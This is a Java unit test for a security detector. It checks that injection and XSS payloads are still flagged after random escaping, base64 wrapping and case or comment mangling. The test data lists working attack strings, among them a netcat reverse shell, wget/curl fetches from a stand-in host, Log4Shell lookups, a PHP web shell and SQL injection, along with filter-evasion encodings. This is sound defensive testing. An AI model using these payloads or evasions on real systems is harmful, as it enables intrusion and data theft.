package org.pbxguard.core.text.catalog;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.SplittableRandom;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.pbxguard.core.text.Probe;
import org.pbxguard.core.text.TextSettings;

/** An attack stays caught whatever it is wrapped in. */
class NestingPropertyTest {
  private static final int ROUNDS = 60;
  private static final int SHORTEST_BASE64 = 16;

  private final Probe probe = Probe.of(StandardDetectors.inspector(TextSettings.defaults()));

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "' or 1=1--",
        "1 or 1=1",
        "x' and sleep(7)='",
        "7 union select name, secret from account",
        "x'; drop table calls; --",
        "1 and extractvalue(1, concat(0x7e, version()))",
        "'; waitfor delay '0:0:7'--",
        "1; select pg_sleep(7)",
        "x' and 7=(select count(*) from users)--",
        "\" or \"\"=\"",
        "<script>alert(7)</script>",
        "<img src=q onerror=alert(7)>",
        "\"><svg/onload=alert(7)>",
        "javascript:alert(document.cookie)",
        "<iframe src=\"javascript:alert(7)\">",
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "/etc/shadow",
        "php://filter/convert.base64-encode/resource=index.php",
        ";cat /etc/passwd",
        "| id",
        "$(wget http://h.example/x)",
        "`curl http://h.example/x`",
        "a && nc -e /bin/sh 192.0.2.7 4444",
        "${jndi:ldap://h.example/x}",
        "${${lower:j}ndi:ldap://h.example/x}",
        "{{7*'7'}}",
        "{{config.__class__.__init__.__globals__}}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "<%= system('id') %>",
        "#{7*7}",
        "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
        "<?php system($_GET['c']); ?>",
        "O:8:\"stdClass\":1:{s:1:\"a\";i:7;}",
        "<!--#exec cmd=\"id\"-->",
        "*)(uid=*))(|(uid=*",
        "{\"$ne\": null}",
        "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///x\">]>",
        "http://169.254.169.254/latest/meta-data/",
        "x\r\nSet-Cookie: a=b",
      })
  void inspect_randomNesting_staysCaught(String attack) {
    SplittableRandom random = new SplittableRandom(attack.hashCode());
    for (int round = 0; round < ROUNDS; round++) {
      String text = nested(attack, random);
      assertThat(probe.points(text)).as(text).isGreaterThanOrEqualTo(Probe.REFUSED);
    }
  }

  /** Up to three layers, of which one may be base64 of the whole. */
  private static String nested(String attack, SplittableRandom random) {
    int layers = 1 + random.nextInt(3);
    int whole = random.nextInt(4);
    String text = attack;
    for (int layer = 0; layer < layers; layer++) {
      if (layer == whole && base64(text).length() >= SHORTEST_BASE64) {
        text = base64(text);
      } else {
        text = escaped(text, random);
      }
    }
    return text;
  }

  private static String base64(String text) {
    return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
  }

  /** One kind of escape over all characters, all but letters and digits, or some of them. */
  private static String escaped(String text, SplittableRandom random) {
    int kind = random.nextInt(6);
    int share = random.nextInt(3);
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      boolean plain = Character.isLetterOrDigit(c);
      boolean escape = share == 0 || (share == 1 ? !plain : !plain || random.nextBoolean());
      out.append(escape ? escape(kind, c) : String.valueOf(c));
    }
    return out.toString();
  }

  private static String escape(int kind, char c) {
    return switch (kind) {
      case 0 -> String.format("%%%02x", (int) c);
      case 1 -> String.format("%%%02X", (int) c);
      case 2 -> String.format("%%u%04x", (int) c);
      case 3 -> String.format("&#%d;", (int) c);
      case 4 -> String.format("&#x%x;", (int) c);
      default -> String.format("\\u%04x", (int) c);
    };
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "' or 1=1--",
        "1 or 1=1",
        "7 union select name, secret from account",
        "7 union all select 1, 2, 3 from users",
        "x'; drop table calls; --",
        "1 and extractvalue(1, concat(0x7e, version()))",
        "'; waitfor delay '0:0:7'--",
        "1; select pg_sleep(7)",
        "x' and 7=(select count(*) from users)--",
        "x' order by 7--",
      })
  void inspect_statementWithRandomCaseCommentsAndNesting_staysCaught(String attack) {
    SplittableRandom random = new SplittableRandom(attack.hashCode());
    String[] blanks = {" ", "\t", "\n", "/**/", "/*x*/", "  ", "\u00a0", "/*!*/", "/**//**/"};
    for (int round = 0; round < ROUNDS; round++) {
      StringBuilder text = new StringBuilder();
      for (int i = 0; i < attack.length(); i++) {
        char c = attack.charAt(i);
        char folded = random.nextBoolean() ? Character.toUpperCase(c) : c;
        text.append(c == ' ' ? blanks[random.nextInt(blanks.length)] : String.valueOf(folded));
      }
      String nested = random.nextBoolean() ? text.toString() : nested(text.toString(), random);
      assertThat(probe.points(nested)).as(nested).isGreaterThanOrEqualTo(Probe.REFUSED);
    }
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "<script>alert(7)</script>",
        "<img src=q onerror=alert(7)>",
        "<svg/onload=alert(7)>",
        "javascript:alert(7)",
        "<a href=javascript:alert(7)>x</a>",
      })
  void inspect_markupWithRandomCaseAndNesting_staysCaught(String attack) {
    SplittableRandom random = new SplittableRandom(attack.hashCode());
    for (int round = 0; round < ROUNDS; round++) {
      StringBuilder text = new StringBuilder();
      for (int i = 0; i < attack.length(); i++) {
        char c = attack.charAt(i);
        text.append(random.nextBoolean() ? Character.toUpperCase(c) : c);
      }
      String nested = nested(text.toString(), random);
      assertThat(probe.points(nested)).as(nested).isGreaterThanOrEqualTo(Probe.REFUSED);
    }
  }
}
